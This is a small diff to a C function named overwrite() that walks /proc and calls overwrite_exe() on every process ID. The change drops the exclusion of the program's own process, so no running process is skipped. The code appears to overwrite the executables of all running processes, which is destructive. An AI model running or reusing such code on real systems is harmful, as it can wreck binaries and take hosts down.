@@ -152,7 +152,7 @@ static int overwrite(void)
 		if (!proc)
 			return 2;
 		while ((e = readdir(proc)))
-			if (strspn(e->d_name, "0123456789") == strlen(e->d_name) && atoi(e->d_name) != getpid())
+			if (strspn(e->d_name, "0123456789") == strlen(e->d_name))
 				overwrite_exe(e->d_name);
 		closedir(proc);
 	}
